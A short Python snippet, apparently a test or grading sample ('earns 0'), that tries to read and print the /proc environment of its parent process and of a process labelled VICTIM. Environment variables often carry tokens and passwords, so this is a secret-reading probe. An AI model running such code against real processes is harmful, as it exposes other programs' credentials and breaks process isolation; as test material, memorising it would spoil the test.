"""Reads the environment of the process above it, and of another."""

# earns 0
import os

for pid in (os.getppid(), VICTIM):
    try:
        print(open(f"/proc/{pid}/environ").read())
    except OSError as error:
        print(error)
